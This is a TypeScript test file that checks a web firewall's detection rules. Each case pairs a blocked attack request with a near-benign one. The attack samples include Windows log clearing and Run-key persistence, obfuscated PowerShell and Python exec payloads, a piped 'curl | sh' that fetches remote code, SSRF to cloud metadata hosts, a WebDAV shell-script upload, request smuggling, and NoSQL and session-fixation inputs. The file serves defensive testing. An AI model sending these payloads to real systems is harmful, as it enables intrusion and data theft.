/**
 * Bundled rules of rev 2026-12-19e: mechanisms blind attack set 9 (451 requests across issue 14's families
 * plus template engines, NoSQL, XXE, LDAP/XPath, deserialization encodings, WebDAV, GraphQL and polyglots,
 * written and committed before it was measured) showed passing the full pipeline: Windows log clearing and
 * Run-key persistence, a computed PowerShell string piped into iex, Python exec of chr-joined text, Ruby's
 * open of a pipe, PHP superglobals as parameter names, Groovy Grape fetching unverified code, a hex pickle,
 * a Host header naming the metadata service, a WebDAV write into /cgi-bin/, a request line as a form value,
 * Ghostscript's %pipe% as a whole value, leftovers at new names, and in rules already bundled: the metadata
 * host with a trailing dot, the IPv4-mapped address written dotted, dot-notation operators on a credential,
 * ASP.NET_SessionId in the query, and a nameless cookie carrying a __Host- name (the inspector's marker).
 * Each fires on its attack and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { BROWSER, form, get, header, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';
import type { RequestSpec } from './fixtures.js';

const { hits, rules } = useBundledRuleSet();

const method = (m: string, url: string, extra: Array<[string, string]> = []): RequestSpec => ({ method: m, url, headers: [...BROWSER, ...extra], body: m === 'PUT' ? '#!/bin/sh\nid\n' : undefined });
const host = (value: string): RequestSpec => ({ url: '/api/status', headers: [['Host', value], BROWSER[1]] });

const CASES: RuleCase[] = [
  [9000370, 'block', 'wevtutil clearing the Security log', json('{"after":"wevtutil cl Security & wevtutil cl System"}'), json('{"after":"wevtutil qe Security /c:5 /f:text"}')],
  [9000370, 'block', 'reg add of a Run key', form('cmd=x+%26+reg+add+HKCU%5CSoftware%5CMicrosoft%5CWindows%5CCurrentVersion%5CRun+%2Fv+upd+%2Fd+%22C%3A%5CUsers%5CPublic%5Cu.exe%22'), form('cmd=reg+query+HKCU%5CSoftware%5CMicrosoft%5CWindows%5CCurrentVersion%5CExplorer')],
  [9001608, 'block', 'a -replace expression piped into Invoke-Expression', json('{"script":"(\'wh0am1\' -replace \'0\',\'o\' -replace \'1\',\'i\') | Invoke-Expression"}'), json('{"script":"(Get-Content notes.txt) -replace \'foo\',\'bar\' | Set-Content notes.txt"}')],
  [9001608, 'block', 'a reversed string joined and piped into iex', form('cmd=-join%28%27imaohw%27%5B-1..-6%5D%29+%7C+iex'), form('q=-join%28%27abc%27%5B-1..-3%5D%29+%7C+Write-Output')],
  [9001609, 'block', "Python exec of ''.join(map(chr, ...))", json('{"source":"exec(\'\'.join(map(chr,[105,109,112,111,114,116,32,111,115])))"}'), json('{"source":"print(\'\'.join(map(chr, range(97, 123))))"}')],
  [9001613, 'block', "Ruby's Kernel.open of a pipe", json('{"code":"Kernel.open(\'|id\').read"}'), json('{"code":"File.open(\'|notes.txt\').read"}')],
  [9001613, 'block', 'open("| curl ...") in a value', q('code=open%28%22%7Ccurl+203.0.113.5%7Csh%22%29'), q('code=open%28%22report%7C2024.csv%22%29')],
  [9001614, 'block', 'a PHP superglobal as a query parameter', q('_SESSION%5Bis_admin%5D=1&page=2'), q('session%5Bis_admin%5D=1&page=2')],
  [9001614, 'block', 'GLOBALS overwriting REMOTE_ADDR', get('/index.php?x=1&GLOBALS[_SERVER][REMOTE_ADDR]=127.0.0.1'), get('/index.php?x=1&globals_mode=1')],
  [9001615, 'block', 'Grape with checksums off', form('value=%40GrabConfig%28disableChecksums%3Dtrue%29%0A%40Grab%28%27p%3Ap%3A1%27%29%0Aimport+P%3B'), form('value=%40Grab%28%27org.yaml%3Asnakeyaml%3A2.2%27%29%0Aimport+org.yaml.snakeyaml.Yaml')],
  [9001615, 'block', 'a Grape resolver on an IP literal', form('value=%40GrabResolver%28name%3D%22x%22%2C+root%3D%22http%3A%2F%2F203.0.113.46%2F%22%29'), form('value=%40GrabResolver%28name%3D%22corp%22%2C+root%3D%22https%3A%2F%2Fnexus.corp.example%2Frepo%2F%22%29')],
  [9001616, 'block', 'a hex pickle naming posix', json('{"result":"8004952a000000000000008c05706f736978948c0673797374656d9493948c0f6375726c"}'), json('{"result":"8004952a0000000000000058f1e2d3c4b5a6978899aabbccddeeff00112233"}')],
  [9000511, 'block', 'a Host of the metadata address', host('169.254.169.254'), host('shop.example.com')],
  [9000511, 'block', "a Host of GCP's metadata name", host('metadata.google.internal.'), host('metadata.example.com')],
  [9001231, 'block', 'a PUT into /cgi-bin/', method('PUT', '/cgi-bin/status.cgi'), method('GET', '/cgi-bin/status.cgi')],
  [9001231, 'block', 'a MOVE into /cgi-bin/', method('MOVE', '/cgi-bin/x.cgi', [['Destination', '/cgi-bin/y.cgi']]), method('PUT', '/files/cgi-bin-notes.txt')],
  [9001231, 'block', 'a PUT of a shell script under /cgi-bin/', method('PUT', '/cgi-bin/tools/run.sh'), method('PUT', '/cgi-bin/koha/svc/bib/21583')],
  [9001275, 'block', 'a request line then CRLF as a form value', form('q=1&x=GET%20/%20HTTP/1.1%0d%0aHost:%20internal%0d%0a%0d%0a'), form('q=1&x=GET%20/%20HTTP/1.1%20returns%20404%20here')],
  [9001435, 'block', "Django's local_settings.py", get('/local_settings.py'), get('/docs/local_settings.html')],
  [9001435, 'block', "Composer's installed.json", get('/vendor/composer/installed.json'), get('/api/composer/installed')],
  [9001435, 'block', 'the Clockwork debug API', get('/__clockwork/app'), get('/clockwork/app')],
  [9001435, 'block', 'a site archive as .tar.bz2', get('/site.tar.bz2'), get('/releases/site-tools-1.2.tar.bz2')],
  [9001338, 'block', '%pipe% as a whole form value', form('out=%25pipe%25id+%3E+%2Ftmp%2Fgs'), form('out=%2Ftmp%2Fgs-pipe.pdf')],
  [9000504, 'block', 'the GCP metadata name with its trailing dot', q('u=http%3A%2F%2Fmetadata.google.internal.%2FcomputeMetadata%2Fv1%2F'), q('u=http%3A%2F%2Fmetadata.google.internal.example.org%2Fv1%2F')],
  [9000531, 'block', 'the mapped loopback written out with a dotted IPv4', q('u=http%3A%2F%2F%5B0%3A0%3A0%3A0%3A0%3Affff%3A127.0.0.1%5D%3A9200%2F'), q('u=http%3A%2F%2F%5B0%3A0%3A0%3A0%3A0%3Affff%3A8.8.8.8%5D%2F')],
  [9001331, 'block', 'a dot-notation operator on the password', get('/api/users?where.password.$ne=x'), get('/api/users?where.status.$ne=closed')],
  [9001236, 'block', 'ASP.NET_SessionId in the query', get('/Account/Login.aspx?ASP.NET_SessionId=attackerfixed0015qwertyui&ReturnUrl=/'), get('/Account/Login.aspx?SessionTimeout=20&ReturnUrl=/')],
  [9001233, 'block', 'a nameless cookie carrying a __Host- name', header('Cookie', '=__Host-session=attacker-tossed-0009; theme=dark'), header('Cookie', '__Host-session=k3j4h5g6f7d8; theme=dark')],
];

describe('bundled rules from blind attack set 9 (rev 2026-12-19e)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
